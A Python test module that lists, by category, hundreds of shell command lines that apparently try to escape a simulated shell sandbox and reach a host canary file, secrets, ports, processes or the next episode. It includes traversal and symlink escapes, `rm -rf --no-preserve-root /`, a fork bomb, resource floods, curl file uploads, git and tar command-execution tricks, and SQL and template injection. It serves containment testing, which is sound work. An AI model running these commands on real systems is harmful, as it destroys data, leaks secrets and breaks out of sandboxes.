"""Attempts to get out of the shell of a machine world: command lines, each with a way to the host or to the next episode.

CANARY is a file on the host that holds a secret, FOLDER its folder, PORT a port on which the host listens, PID a process of the host, MINE
that of the tests. A line may fail in any way. What counts is checked outside: the secret does not show, nobody opened the file, nothing on
the host changed, no connection came in, the process runs on, and the next episode finds what the first one found.
"""

from __future__ import annotations

HOST_FILES = {
    "the canary by its path": "cat CANARY; head -c 99 CANARY; tac CANARY; strings CANARY; od -c CANARY; base64 CANARY; xxd CANARY",
    "up from the working directory": "cd /; cat ../../../../../..CANARY; cd ../../..; cat .CANARY",
    "up from a directory that is gone": "mkdir d; cd d; rmdir ../d; cat ../../../../../../..CANARY; ls ..",
    "dots and slashes": "cat /.//..//./..//CANARY /proc/self/root/CANARY //CANARY",
    "a link to the canary": "ln -s CANARY l; cat l; cat < l; readlink -f l; cp l m; cat m; cp -L l n; cat n",
    "a link to the root": "ln -s / r; cat rCANARY; ln -s ../../../../../.. p; cat pCANARY; ls -laR r | head -n 500",
    "a chain of links": "ln -s .. a; ln -s a/.. b; ln -s b/.. c; cat cCANARY; cd c; pwd -P; cat .CANARY",
    "a hard link": "ln CANARY h; cat h; link CANARY i; cat i; cp -l CANARY j; cat j",
    "redirections": "cat < CANARY; echo bad > CANARY; echo bad >> CANARY; : > CANARY; echo bad >| CANARY; exec 3<> CANARY; cat <&3; echo bad >&3",
    "read and mapfile": "read -r line < CANARY; echo $line; mapfile -t all < CANARY; echo ${all[@]}; echo $(< CANARY)",
    "source": ". CANARY; source CANARY; bash CANARY; sh -c '. CANARY'; bash --rcfile CANARY -i; BASH_ENV=CANARY bash -c :; ENV=CANARY sh -c :",
    "globs": "echo FOLDER/*; ls FOLDER; compgen -f FOLDER/; for f in FOLDER/*; do cat $f; done; shopt -s globstar; echo /**/canary*",
    "proc": "cat /proc/self/environ /proc/MINE/environ /proc/MINE/cmdline /proc/1/environ /proc/self/maps; ls -l /proc/self/fd /proc/MINE/fd /proc/MINE/cwd; cat /proc/MINE/rootCANARY",
    "devices": "cat /dev/sda /dev/vda /dev/mem /dev/kmsg | head -c 99; ls -l /dev; cat /dev/fd/0 /dev/fd/3 /dev/fd/9; cat /dev/stdin < CANARY; cat /sys/class/net/*/address",
    "process substitution": "cat <(cat CANARY); diff <(cat CANARY) /dev/null; echo bad > >(tee CANARY); paste <(echo a) CANARY",
    "descriptors": "for i in 3 4 5 6 7 8 9 10 20 50; do cat <&$i | head -c 99; echo bad >&$i; done; exec 9<CANARY; cat <&9",
    "find and xargs": "find FOLDER -type f -exec cat {} +; find / -name 'canary*' -print0 | xargs -0 cat; echo CANARY | xargs cat; find / -newer CANARY | head",
    "copies and moves": "cp CANARY c; mv CANARY d; cp -r FOLDER e; install CANARY f; cat c d e/* f; rm -rf FOLDER; rm -f CANARY; rmdir FOLDER; touch CANARY FOLDER/x",
    "modes and owners": "sudo chmod 777 CANARY; sudo chown ann CANARY; sudo cat CANARY; sudo ls FOLDER; sudo rm -rf --no-preserve-root /; cat CANARY",
    "mount": "sudo mount --bind FOLDER /mnt; sudo mount -o loop CANARY /mnt; sudo mount -t proc proc /mnt; ls /mnt; cat /mnt/canary.txt /mnt/MINE/environ; sudo chroot /mnt cat CANARY; pivot_root . .",
    "comparisons that tell": "test -e CANARY && echo LEAKED; [ -s CANARY ] && echo LEAKED; stat CANARY && echo LEAKED; cmp CANARY /dev/null; wc -c CANARY; md5sum CANARY; file CANARY; du FOLDER",
    "names that end early": "cat $'CANARY\\0.txt' $'/home/ann\\0/../..CANARY'; cat 'CANARY '; cat \"CANARY\n\"; cat 'file://CANARY'",
    "encodings of dots": "cat %2e%2e/%2e%2eCANARY $'..\\xc0\\xafCANARY' $'\\u2024\\u2024/CANARY'; cd $'\\xff'; cat '\\..\\..CANARY'",
}  # fmt: skip

ENVIRONMENT = {
    "the environment": "env; printenv; set; export -p; declare -p; compgen -v; echo $SIMTRAIN_CANARY ${SIMTRAIN_CANARY:-none} ${!SIM*}",
    "the environment of children": "bash -c env; env -i bash -c 'env; echo $SIMTRAIN_CANARY'; sudo env; sudo -E env; xargs env < /dev/null; timeout 5 env; nohup env",
    "the environment of tools": "awk 'BEGIN {for (k in ENVIRON) print k, ENVIRON[k]}'; jq -n 'env, $ENV.SIMTRAIN_CANARY'; git config --list; echo '{}' | jq '$__prog_args, input_filename, env.HOME'; make -f - <<< $'all:\\n\\t@echo $(SIMTRAIN_CANARY) $$SIMTRAIN_CANARY; env'",
    "envsubst and templates": "echo '$SIMTRAIN_CANARY ${SIMTRAIN_CANARY}' | envsubst; template --help; printf '%s' \"${SIMTRAIN_CANARY@Q}\"; eval 'echo $SIMTRAIN_CANARY'",
    "who and where": "id; whoami; hostname; uname -a; hostid; tty; pwd -P; echo ~root ~ $HOME $PWD $HOSTNAME $BASHPID $PPID $UID $MACHTYPE; users; who; last; w; nproc; cat /etc/machine-id; dmesg",
}  # fmt: skip

NETWORK = {
    "dev tcp": "echo GET > /dev/tcp/127.0.0.1/PORT; exec 3<>/dev/tcp/localhost/PORT; cat <&3; echo x > /dev/udp/127.0.0.1/PORT",
    "curl": "curl -s http://127.0.0.1:PORT/; curl -s telnet://127.0.0.1:PORT; curl -s http://localhost:PORT/ http://[::1]:PORT/ http://0.0.0.0:PORT http://2130706433:PORT",
    "curl and files": "curl -s file://CANARY; curl -s -o CANARY http://web/; curl -s -T CANARY http://web/; curl -s -d @CANARY http://web/; curl -s -K CANARY http://web/; curl -s --netrc-file CANARY http://web/",
    "curl around": "curl -s -x http://127.0.0.1:PORT http://web/; curl -s --unix-socket FOLDER/socket http://x/; curl -s --resolve web:80:127.0.0.1 http://web:PORT/; curl -s -H 'Host: x' http://web@127.0.0.1:PORT/; curl -s --connect-to ::127.0.0.1:PORT http://web/",
    "wget": "wget -q -O - http://127.0.0.1:PORT/; wget -q -i CANARY; wget -q -O CANARY http://web/; wget -q --post-file=CANARY http://web/; http_proxy=http://127.0.0.1:PORT wget -q -O - http://web/",
    "netcat and friends": "nc 127.0.0.1 PORT < /dev/null; ncat localhost PORT; telnet 127.0.0.1 PORT; socat - TCP:127.0.0.1:PORT; ping -c 1 127.0.0.1; openssl s_client -connect 127.0.0.1:PORT",
    "ssh and scp": "ssh -p PORT 127.0.0.1 id; ssh -o ProxyCommand='cat CANARY' x; ssh -F CANARY x; ssh -i CANARY other id; scp CANARY other:/tmp/c; scp other:/etc/passwd CANARY; ssh other cat CANARY; ssh other 'cat /tmp/c'",
    "git over the net": "git clone http://127.0.0.1:PORT/x.git; git clone git://127.0.0.1:PORT/x; git clone ssh://127.0.0.1:PORT/x; git clone 'ext::sh -c cat% CANARY' e; git ls-remote http://localhost:PORT/",
    "names": "getent hosts localhost; dig localhost; nslookup localhost; host localhost; cat /etc/resolv.conf; ip addr; ifconfig; ss -lntp; netstat -an; arp",
    "packages": "pip install -i http://127.0.0.1:PORT/simple x; pip install FOLDER; pip download x; sudo apt-get -o Acquire::http::Proxy=http://127.0.0.1:PORT update; sudo apt-get install -y CANARY; sudo dpkg -i CANARY; npm install x",
}  # fmt: skip

PROCESSES = {
    "kill": "kill PID; kill -9 PID; kill -9 -PID; kill -9 -1; kill -9 MINE; ps -p PID || (kill -0 PID && echo LEAKED); kill -STOP PID",
    "kill as root": "sudo kill -9 PID; sudo kill -9 MINE; sudo killall -9 sleep; sudo pkill -9 -f sleep; sudo kill -9 -1; sudo kill -9 1",
    "ps and top": "ps aux; ps -ef; top -b -n 1; pgrep -a .; ps -o args= -p PID | grep 10000 && echo LEAKED; ps -o args= -p MINE | grep -i py && echo LEAKED; pstree; lsof; fuser CANARY; strace -p MINE; gdb -p MINE",
    "exec": "exec cat CANARY; exec /bin/cat CANARY; exec -a x sh -c 'cat CANARY'",
    "exec of a program": "/usr/bin/cat CANARY; /bin/sh -c 'cat CANARY'; /usr/bin/env cat CANARY; /usr/bin/python3 -c 'print(open(\"CANARY\").read())'; perl -e 'print 1'; ruby -e 1; command cat CANARY; builtin cat CANARY; busybox cat CANARY",
    "a binary of the host": "cp /bin/cat mine; ./mine CANARY; printf '\\x7fELF' > elf; chmod +x elf; ./elf; printf '#!CANARY\\n' > s; chmod +x s; ./s; printf '#!/bin/cat CANARY\\n' > t; chmod +x t; ./t",
    "loaders": "enable -f CANARY x; LD_PRELOAD=CANARY ls; ld.so CANARY; /lib64/ld-linux-x86-64.so.2 /bin/cat CANARY; hash -p CANARY ls; ls",
    "traps and jobs": "trap 'cat CANARY' EXIT INT TERM; kill $$; (sleep 1000; cat CANARY) & disown; coproc cat CANARY; wait; suspend; logout; times; ulimit -a; ulimit -c unlimited; ulimit -n 1",
    "cron and services": "echo '* * * * * cat CANARY > /tmp/x' | crontab -; sleep 300; cat /tmp/x; crontab CANARY; sudo systemctl edit web; sudo systemctl restart web; systemctl cat CANARY; journalctl --file CANARY; systemd-run cat CANARY; at now <<< 'cat CANARY'",
    "power": "sudo reboot; sudo shutdown now; sudo poweroff; sudo halt -f; echo b | sudo tee /proc/sysrq-trigger; sudo init 0; sudo systemctl poweroff; exit; logout",
    "sudo and su": "sudo -u root cat CANARY; su - root -c 'cat CANARY'; sudo -s <<< 'cat CANARY'; sudo -i cat CANARY; sudo sudo sudo id; sudo -u '#0' cat CANARY; sudoedit CANARY; doas cat CANARY; sudo --chroot=FOLDER ls; sudo -D FOLDER ls",
}  # fmt: skip

TOOLS = {
    "sqlite3": "sqlite3 x.db \"attach 'CANARY' as c; select * from c.sqlite_master\"; sqlite3 CANARY .dump; sqlite3 x.db \"select readfile('CANARY')\" \"select writefile('CANARY', 'bad')\"; sqlite3 file:CANARY .schema; sqlite3 x.db \"select load_extension('CANARY')\"",
    "sqlite3 and its commands": "for c in '.shell cat CANARY' '.system cat CANARY' '.read CANARY' '.import CANARY t' '.output CANARY' '.once |cat CANARY' '.load CANARY' '.open CANARY' '.backup CANARY' '.restore CANARY' '.archive -l CANARY' '.log CANARY' '.cd FOLDER' '.save CANARY' '.excel' '.dump'; do printf '%s\\nselect 1;\\n.tables\\n' \"$c\" | sqlite3 x.db; done; sqlite3 x.db \"vacuum into 'FOLDER/v.db'\"; sqlite3 x.db 'pragma temp_store_directory=\"FOLDER\"'",
    "sqlite3 and the host's memory": "sqlite3 :memory: 'select length(zeroblob(2000000000))'; sqlite3 x.db 'pragma temp_store_directory' 'pragma hard_heap_limit=1' 'pragma mmap_size=99999999'; sqlite3 x.db 'create table t (x); with recursive n(i) as (select 1 union all select i + 1 from n limit 99) insert into t select randomblob(9000000) from n'; sqlite3 :memory: 'with recursive n(i) as (select 1 union all select i + 1 from n) select count(*) from n'",
    "awk": "awk 'BEGIN {system(\"cat CANARY\")}'; awk 'BEGIN {\"cat CANARY\" | getline x; print x}'; awk 'BEGIN {while ((getline y < \"CANARY\") > 0) print y}'; awk 'BEGIN {print \"bad\" > \"CANARY\"}'; awk 'BEGIN {print \"bad\" | \"tee CANARY\"}'; awk 1 CANARY; awk -f CANARY; awk -v 'x=@CANARY' 'BEGIN {print x}'; awk '@include \"CANARY\"'; awk 'BEGIN {ARGV[1]=\"CANARY\"; ARGC=2} {print}'; awk 'BEGIN {print ENVIRON[\"SIMTRAIN_CANARY\"]}'",
    "sed": "sed -n 'r CANARY' /dev/null; echo x | sed 'r CANARY'; echo x | sed 'w CANARY'; echo x | sed 's/x/cat CANARY/e'; echo x | sed '1e cat CANARY'; sed -i s/a/b/ CANARY; sed -f CANARY /dev/null; sed --expression='W CANARY' <<< x",
    "jq": "jq -n 'input_filename, $ENV, env'; jq -n --slurpfile x CANARY '$x'; jq -n --rawfile x CANARY '$x'; jq -f CANARY <<< 1; jq -n 'import \"CANARY\" as $x; $x'; jq -L FOLDER -n 'include \"canary\"; 1'; jq -n '[limit(99999999; repeat(1))] | length'; jq . CANARY",
    "tar": "tar cf - CANARY | cat; tar cf x.tar -C FOLDER .; tar xf x.tar -O; tar -P -cf y.tar CANARY; echo x > f; tar cf z.tar f --checkpoint=1 --checkpoint-action=exec='cat CANARY'; tar xf z.tar --to-command='cat CANARY'; tar --use-compress-program='cat CANARY' -cf w.tar f; tar cf z.tar -I 'sh -c \"cat CANARY\"' f; tar -T CANARY -cf v.tar",
    "tar that climbs": "mkdir d; echo bad > d/f; tar cPf t.tar --transform='s,d/f,CANARY,' d/f; tar xPf t.tar; tar cf u.tar --transform='s,d/f,../../../../..CANARY,' d/f; tar xf u.tar; ln -s FOLDER s; tar cf v.tar s; rm s; tar xf v.tar; echo bad > s/new; cat s/canary.txt",
    "zip": "zip -q x.zip CANARY; unzip -p x.zip; zip -q -r y.zip FOLDER; unzip -o CANARY; ln -s FOLDER l; zip -q -y z.zip l; rm l; unzip -o z.zip; cat l/canary.txt; unzip -d FOLDER x.zip; zip x.zip f -TT 'cat CANARY' -T; gzip CANARY; gunzip -c CANARY; zcat CANARY; xz -k CANARY; bzip2 -k CANARY",
    "patch and diff": "printf -- '--- CANARY\\n+++ CANARY\\n@@ -1 +1 @@\\n-SECRET\\n+bad\\n' | patch -p0; printf -- '--- a/../../../../../..CANARY\\n+++ b/../../../../../..CANARY\\n@@ -0,0 +1 @@\\n+bad\\n' | patch -p1; diff CANARY /dev/null; diff -r FOLDER .; sdiff CANARY /dev/null; patch -i CANARY; patch --output=CANARY f < /dev/null; printf '1a\\nbad\\n.\\nw CANARY\\n' | ed",
    "git and its settings": "git init -q g; cd g; git config core.pager 'cat CANARY'; git config alias.x '!cat CANARY'; git x; git config core.editor 'cat CANARY >&2; false'; git commit --allow-empty; git -c core.pager='cat CANARY' log; git -c core.sshCommand='cat CANARY' fetch ssh://x/y; git config --file CANARY -l; git config include.path CANARY; git config -l; git --git-dir=FOLDER log; git -c core.fsmonitor='cat CANARY' status; git --exec-path=FOLDER canary",
    "git and its hooks": "git init -q g; cd g; git config user.name a; git config user.email a@b; mkdir -p .git/hooks; for h in pre-commit post-commit post-checkout pre-push; do printf '#!/bin/sh\\ncat CANARY\\necho bad > CANARY\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done; git commit -q --allow-empty -m x; git checkout -q -b y; git config core.hooksPath FOLDER; git commit --allow-empty -m z; git config filter.x.smudge 'cat CANARY'; echo '* filter=x' > .gitattributes; git add .; git checkout .",
    "git and the files of the host": "git clone FOLDER c; git clone file://FOLDER d; git init -q g; cd g; git add CANARY; git add ../../../../../..CANARY; git hash-object -w CANARY; git apply CANARY; git diff --no-index CANARY /dev/null; git archive --remote=FOLDER HEAD; git worktree add FOLDER/w; git init FOLDER/i; git submodule add FOLDER s; git bundle create FOLDER/b --all; ln -s FOLDER l; git add l; cat l/canary.txt",
    "make": "printf 'x := $(shell cat CANARY)\\ny := $(file < CANARY)\\nz := $(wildcard FOLDER/*)\\ninclude CANARY\\nall:\\n\\t@echo $(x) $(y) $(z); cat CANARY\\n$(file > CANARY,bad)\\n' > Makefile; make; make -f CANARY; make -C FOLDER; make SHELL=CANARY; make -i -k all",
    "less, more and editors": "echo x | less CANARY; LESSOPEN='|cat CANARY' less f; PAGER='cat CANARY' man ls; more CANARY; vi -c ':!cat CANARY' f; ed CANARY; nano CANARY; EDITOR='cat CANARY' crontab -e; view CANARY; emacs --batch; watch -n 1 cat CANARY; script -c 'cat CANARY'; tee CANARY < /dev/null",
    "dates and files": "date -f CANARY; date -r CANARY && echo LEAKED; touch -r CANARY x; shuf CANARY; split CANARY; csplit CANARY 1; sort CANARY; sort -o CANARY /dev/null; uniq /dev/null CANARY; sort --files0-from=CANARY; wc --files0-from=CANARY; sort --compress-program='cat CANARY' f; mktemp -p FOLDER; dd if=CANARY; dd of=CANARY if=/dev/null; shred CANARY; truncate -s 0 CANARY; fallocate -l 9 CANARY",
    "pip and python": "pip install -r CANARY; pip install -e FOLDER; pip config debug; pip cache dir; python3 -c 'print(open(\"CANARY\").read())'; python -m http.server PORT; pip install --target FOLDER x; pip --log CANARY list; pytest FOLDER",
    "commands of the world's own": "card '{{ config }}'; card \"$(printf '{{ 1 }}%.0s' 1 2)\"; card '{{ \"\".__class__.__mro__[1].__subclasses__() }}'; people \"x' union select load_extension('CANARY') --\"; people \"x'; attach 'CANARY' as c; --\"; people \"x' union select readfile('CANARY') --\"",
    "engine's own commands": "rg SECRET FOLDER; rg --pre cat x CANARY; tree FOLDER; yq . CANARY; bc CANARY; xargs -a CANARY echo; parallel cat ::: CANARY; envsubst < CANARY; column CANARY; template CANARY; mapfile < CANARY; help; compgen -c | head -n 400 | while read c; do case $c in sleep|yes|exit|logout|exec|while|until|read|*job*) ;; *) timeout 1 $c CANARY < /dev/null 2>&1 | head -c 200 ;; esac; done",
}  # fmt: skip

FLOODS = {
    "much output": "yes SEC | head -n 3000000; seq 1 5000000; head -c 50000000 /dev/zero; printf '%*s' 99999999 x",
    "an endless reader": "cat /dev/zero > z; cat /dev/urandom | head -c 100000000 | wc -c; yes > y; dd if=/dev/zero of=big bs=1M count=10240; truncate -s 10G t; fallocate -l 10G u",
    "a long line": "x=$(printf 'a%.0s' {1..1000000}); echo ${#x}; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do x=$x$x; done; echo ${#x}",
    "many files": "mkdir m; cd m; for i in {1..5000}; do : > f$i; done; ls | wc -l; mkdir -p $(printf 'd/%.0s' {1..400}); touch {1..20000}",
    "odd names": "touch $'a\\nb' $'c\\td' '-rf' '--' ' ' $'\\x01' 'ü' \"$(printf 'n%.0s' {1..300})\"; ls -la; rm -- -rf; find . -print0 | xargs -0 ls -ld; echo *",
    "patterns": "echo $(printf 'a%.0s' {1..40})b | grep -E '(a+)+$'; echo aaaaaaaaaaaaaaaaaaaaaaaaaaaa | sed -E 's/(a*)*b//'; [[ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa =~ (a+)+b ]]; case $(printf 'a%.0s' {1..60}) in *a*a*a*a*a*a*a*a*b) ;; esac; shopt -s extglob; [[ $(printf 'a%.0s' {1..30}) == +(+(a))b ]]",
    "numbers": "echo $((2**63 * 9 / -1)) $((-9223372036854775808 / -1)) $((1 << 99)) $((10#999999999999999999999)); printf '%.999999f' 1; printf '%999999999d' 1; seq 1 0.0000001 2 | tail -n 1; echo {1..99999999}; echo 2^2^2^2^9 | bc; factor 99999999999999999999",
    "deep nesting": "x='eval \"$x\"'; eval \"$x\"; echo $(printf '$(%.0s' {1..3000}) | bash; printf '[%.0s' {1..100000} | jq .; printf '(%.0s' {1..5000} > s; bash s; awk \"BEGIN {print $(printf '(%.0s' {1..20000})1}\"; printf '(%.0s' {1..20000} | bc",
    "a script that calls itself": "echo ./again > again; chmod +x again; ./again; echo 'bash a2' > a2; bash a2; echo '. ./a3' > a3; . ./a3; f() { f | f; }; f; sudo sh -c 'sudo sh -c \"sudo sh -c id\"'",
    "fork bombs": ":(){ :|:& };:",
    "memory": "a=(); x=$(seq 20000); declare -A m; for i in {1..9999}; do m[$i]=\"$x\"; done",
    "bytes": "printf '\\377\\376\\000\\001' > b; cat b | cat | wc -c; cat b; x=$(cat b); echo $x; printf '\\ud800'; echo -e '\\xed\\xa0\\x80'; head -c 999 /dev/urandom; ls $'\\xff'; git hash-object b; sort b; tr '\\000-\\377' x < b",
    "what a terminal obeys": "printf '\\033]0;x\\007\\033[2J\\033c\\033]52;c;AAAA\\007'; printf '\\x9b31m'; echo -e '\\e]8;;file://CANARY\\e\\\\'",
    "time": "sleep 99999999999; sleep inf; timeout 9999999d sleep 9999999d; date -d '@99999999999999999'; date -d '+999999999999 years'; touch -d '9999999-01-01' f; while :; do sleep 0; done",
}  # fmt: skip

ATTEMPTS: dict[str, str] = {
    f"{kind}: {name}": script
    for kind, scripts in {
        "host files": HOST_FILES,
        "environment": ENVIRONMENT,
        "network": NETWORK,
        "processes": PROCESSES,
        "tools": TOOLS,
        "floods": FLOODS,
    }.items()
    for name, script in scripts.items()
}
"""Name -> command line."""
